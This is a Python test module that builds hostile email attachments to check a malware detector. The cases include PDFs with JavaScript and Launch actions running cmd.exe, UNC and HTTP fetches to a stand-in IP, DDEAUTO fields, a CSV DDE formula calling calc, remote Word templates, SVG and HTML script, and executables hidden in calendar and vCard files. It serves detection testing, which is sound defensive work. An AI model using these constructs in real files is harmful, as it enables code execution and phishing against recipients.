"""Documents that act: PDF actions and embedded files, macros, objects, templates from elsewhere, script in pictures."""

import functools
import zipfile
from collections.abc import Callable

from tests import builders
from tests.builders import zip_of
from tests.detection import media, payloads, pdfs
from tests.detection.case import STUDIO, Case, Source, hostile
from tests.detection.mails import COVER, attached, b64, mixed
from tests.detection.payloads import ELF, ICS, JSCRIPT, PE, SVG, docx, smuggler
from tests.detection.pdfs import pdf, stream

_JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
_WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_RELATION = (
    '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/>'
)


def cases() -> list[Case]:
    """Return the class active types."""
    documents: dict[str, Source] = {
        f"PDF: {name}": functools.partial(_document, make) for name, make in _pdfs().items()
    }
    return [
        *hostile("active types", documents),
        *hostile("active types", _pictures() | _calendars()),
        *hostile("active types", _office(), STUDIO),
    ]


def _document(make: Callable[[], bytes]) -> bytes:
    return attached(make(), "application/pdf", "report.pdf")


def _pdfs() -> dict[str, Callable[[], bytes]]:
    embedded = {
        5: b"<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 6 0 R >> >>",
        6: stream(PE, b"/Type /EmbeddedFile"),
    }
    packed_files = {5: embedded[5], 6: stream(PE, b"/Type /EmbeddedFile", deflated=True)}
    names = b"/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>"
    qpdf = functools.partial(media.pdf, "qpdf")

    def of_streams() -> bytes:
        return qpdf("--object-streams=generate", "in.pdf", "out.pdf", in_pdf=pdf(b"/OpenAction " + _JS))

    return {
        "JavaScript at opening": lambda: pdf(b"/OpenAction " + _JS),
        "JavaScript by name": lambda: pdf(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", more={5: _JS}),
        "JavaScript of a page": lambda: pdf(page=b"/AA << /O " + _JS + b" >>"),
        "JavaScript of the document": lambda: pdf(b"/AA << /WC " + _JS + b" >>"),
        "JavaScript of an annotation": lambda: pdf(
            page=b"/Annots [5 0 R]", more={5: b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + _JS + b" >>"}
        ),
        "JavaScript in a stream": lambda: pdf(
            b"/OpenAction << /S /JavaScript /JS 5 0 R >>", more={5: stream(b"app.alert(1)", deflated=True)}
        ),
        "names written in hexadecimal": lambda: pdf(b"/#4fpenAction << /S /J#61vaScr#69pt /#4AS (app.alert\\(1\\)) >>"),
        "names written in hexadecimal, all letters": lambda: pdf(
            b"/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /#4A#53 (app.alert\\(1\\)) >>"
        ),
        "action in a packed object": of_streams,
        "packed objects by hand": lambda: pdf(
            b"/OpenAction 7 0 R", more={5: pdfs.object_stream({7: _JS}), 6: b"null"}
        ),
        "action in an update": lambda: pdfs.updated(pdf(), 1, pdfs.PAGE[1] % (b"/OpenAction " + _JS)),
        "action removed by an update": lambda: pdfs.updated(pdf(b"/OpenAction " + _JS), 1, pdfs.PAGE[1] % b""),
        "action behind the last end": lambda: pdf() + b"1 0 obj\n" + pdfs.PAGE[1] % (b"/OpenAction " + _JS) + b"\nendobj\n",
        "launch of a program": lambda: pdf(
            b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"
        ),
        "launch by an annotation": lambda: pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /F (a.exe) >> >>]"
        ),
        "file inside": lambda: pdf(names, more=embedded),
        "file inside, packed": lambda: pdf(names, more=packed_files),
        "file inside, as an annotation": lambda: pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>]", more=embedded
        ),
        "file inside, by qpdf": lambda: qpdf("in.pdf", "--add-attachment", "a.bin", "--", "out.pdf", in_pdf=pdf(), a_bin=ELF),
        "associated file": lambda: pdf(b"/AF [5 0 R]", more=embedded),
        "portfolio": lambda: pdf(b"/Collection << /View /T >> " + names, more=embedded),
        "another PDF inside": lambda: pdf(names, more=embedded | {6: stream(pdf(b"/OpenAction " + _JS), b"/Type /EmbeddedFile")}),
        "jump into a file inside": lambda: pdf(b"/OpenAction << /S /GoToE /T << /R /C /N (a) >> >> " + names, more=embedded),
        "jump to a share": lambda: pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\a) /D [0 /Fit] >>"),
        "form of XFA": lambda: pdf(
            b"/AcroForm << /Fields [] /XFA 5 0 R >>",
            more={5: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")},
        ),
        "form that is sent": lambda: pdf(b"/OpenAction << /S /SubmitForm /F (http://198.51.100.7/) >>"),
        "data that is fetched": lambda: pdf(b"/OpenAction << /S /ImportData /F (\\\\\\\\198.51.100.7\\\\a.fdf) >>"),
        "rich media": lambda: pdf(
            page=b"/Annots [<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent "
            b"<< /Assets << /Names [(a.swf) 5 0 R] >> >> >>]", more=embedded,
        ),
        "locked with a password": lambda: qpdf(
            "--encrypt", "user", "owner", "256", "--", "in.pdf", "out.pdf", in_pdf=pdf()
        ),
        "locked with RC4": lambda: qpdf(
            "--allow-weak-crypto", "--encrypt", "user", "owner", "128", "--", "in.pdf", "out.pdf", in_pdf=pdf()
        ),
        "locked without a password, JavaScript inside": lambda: qpdf(
            "--encrypt", "", "owner", "256", "--", "in.pdf", "out.pdf", in_pdf=pdf(b"/OpenAction " + _JS)
        ),
        "linear, with JavaScript": lambda: qpdf("--linearize", "in.pdf", "out.pdf", in_pdf=pdf(b"/OpenAction " + _JS)),
        "broken table, JavaScript all the same": lambda: pdf(b"/OpenAction " + _JS).replace(b"xref\n0", b"xref\n9"),
        "comments inside names' neighbours": lambda: pdf(b"/OpenAction%x\n<</S%y\n/JavaScript/JS(app.alert\\(1\\))>>"),
        "cut before its end": lambda: pdf(b"/OpenAction " + _JS)[:-200],
    }  # fmt: skip


def _pictures() -> dict[str, Source]:
    compressed = media.made
    return {
        "SVG with script": attached(SVG, "image/svg+xml", "chart.svg"),
        "SVG with script as PNG": attached(SVG, "image/png", "chart.png"),
        "SVG with script, packed": lambda: attached(
            compressed(["gzip", "a.svg"], "a.svg.gz", {"a.svg": SVG}), "image/svg+xml", "chart.svgz"
        ),
        "SVG with a foreign object": attached(
            b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">'
            b'<iframe src="http://198.51.100.7/"/></body></foreignObject></svg>', "image/svg+xml", "a.svg",
        ),
        "SVG inline by its identifier": mixed(
            builders.text('<img src="cid:a">\r\n', "html"),
            b"Content-Type: image/svg+xml\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(SVG),
            subtype="related",
        ),
        "HTML attached": attached(smuggler().encode(), "text/html", "invoice.html"),
        "HTML attached without a name": mixed(COVER, builders.part(smuggler().encode(), "text/html")),
        "web archive": attached(
            b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x; type="text/html"\r\n\r\n--x\r\n'
            b"Content-Type: text/html\r\n\r\n" + smuggler().encode() + b"--x--\r\n", "multipart/related", "page.mht",
        ),
        "XHTML": attached(b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
                          "application/xhtml+xml", "page.xhtml"),
        "XML with a style sheet that runs": attached(
            b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
            b'xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">' + JSCRIPT
            + b"</ms:script></xsl:stylesheet>", "text/xml", "a.xsl",
        ),
        "EPS as a picture": attached(payloads.POSTSCRIPT, "image/x-eps", "logo.eps"),
        "theme": attached(b"[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nSCRNSAVE.EXE=\\\\198.51.100.7\\a.scr\r\n",
                          "application/octet-stream", "a.theme"),
        "library of Windows": attached(
            b'<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
            b"<simpleLocation><url>\\\\198.51.100.7\\share</url></simpleLocation></libraryDescription>",
            "application/windows-library+xml", "documents.library-ms",
        ),
    }  # fmt: skip


def _calendars() -> dict[str, Source]:
    inside = f"ATTACH;FMTTYPE=application/x-msdownload;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=a.exe:{b64(PE).decode()}"
    folded = inside.replace("\r\n", "\r\n ").rstrip() + "\r\n"
    event = ICS.replace("{more}", folded)
    return {
        "invitation with a program inside": mixed(
            COVER, builders.text(event, "calendar; method=REQUEST"), subtype="alternative"
        ),
        "calendar file with a program inside": attached(event.encode(), "text/calendar", "invite.ics"),
        "visiting card with a program inside": attached(
            b"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:A\r\nPHOTO;ENCODING=b;TYPE=JPEG:"
            + b64(PE).replace(b"\r\n", b"\r\n ")
            + b"\r\nEND:VCARD\r\n",
            "text/vcard",
            "a.vcf",
        ),
    }


def _office() -> dict[str, Source]:
    relation = _RELATION.format
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{which}"/></w:r>' for which in ("begin", "end"))
    field = f'<w:p>{begin}<w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r>{end}</w:p>'
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO c:\\\\a.exe"/></w:p>'
    split = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "EAU", "TO c:\\\\a.exe"))
    odt = {
        "mimetype": b"application/vnd.oasis.opendocument.text",
        "content.xml": b"<a/>",
        "META-INF/manifest.xml": b"<a/>",
    }
    ole = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(1528)
    documents = {
        "macros in a docx": docx(more={"word/vbaProject.bin": ole}),
        "macros under another name": docx(more={"word/printer.dat": ole}),
        "macro document renamed": payloads.docm(),
        "template from elsewhere": docx(relations=relation(kind="attachedTemplate", target="http://198.51.100.7/a.dotm")),
        "template from a share": docx(relations=relation(kind="attachedTemplate", target="file://198.51.100.7/a.dotm")),
        "frame from elsewhere": docx(relations=relation(kind="frame", target="http://198.51.100.7/a.rtf")),
        "object from elsewhere": docx(relations=relation(kind="oleObject", target="mhtml:http://198.51.100.7/a.html!x-usc:b")),
        "object inside": docx(relations='<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/officeDocument/'
                              '2006/relationships/oleObject" Target="embeddings/oleObject1.bin"/>',
                              more={"word/embeddings/oleObject1.bin": ole}),
        "program inside": docx(more={"word/media/image1.png": PE}),
        "ZIP inside": docx(more={"word/media/image1.jpg": payloads.ZIP}),
        "script inside": docx(more={"customXml/a.js": JSCRIPT}),
        "DDE field": docx(field),
        "DDE field, simple": docx(simple),
        "DDE field in pieces": docx(f"<w:p>{begin}{split}{end}</w:p>"),
        "chunk of HTML": docx('<w:altChunk r:id="rId8"/>', '<Relationship Id="rId8" Type="http://schemas.openxmlformats.org/'
                              'officeDocument/2006/relationships/aFChunk" Target="a.html"/>', more={"word/a.html": smuggler().encode()}),
        "ActiveX": docx(more={"word/activeX/activeX1.bin": ole}),
        "with a ZIP behind it": docx() + payloads.ZIP,
        "with a program before it": PE + docx(),
    }  # fmt: skip
    sent: dict[str, Source] = {
        f"document: {name}": attached(data, _WORD, "letter.docx") for name, data in documents.items()
    }
    open_type = "application/vnd.oasis.opendocument.text"
    sent |= {
        "OpenDocument with Basic": attached(
            zip_of(odt | {"Basic/Standard/Module1.xml": b"<script:module/>"}, zipfile.ZIP_STORED),
            open_type,
            "letter.odt",
        ),
        "OpenDocument with a Python macro": attached(
            zip_of(odt | {"Scripts/python/a.py": payloads.PYTHON}, zipfile.ZIP_STORED), open_type, "letter.odt"
        ),
        "OpenDocument with an object": attached(
            zip_of(odt | {"Object 1": ole}, zipfile.ZIP_STORED), open_type, "letter.odt"
        ),
        "RTF with an object": attached(payloads.RTF, "application/rtf", "letter.rtf"),
        "RTF named as a document": attached(payloads.RTF, _WORD, "letter.docx"),
        "CSV with DDE": attached(b"=cmd|' /C calc'!A0,1\r\n2,3\r\n", "text/csv", "list.csv"),
        "old Word document": attached(ole, "application/msword", "letter.doc"),
        "page as a text": attached(smuggler().encode(), "text/plain", "notes.txt"),
        "script as a text": attached(b"#!/bin/sh\nid\n", "text/plain", "notes.txt"),
    }
    return sent
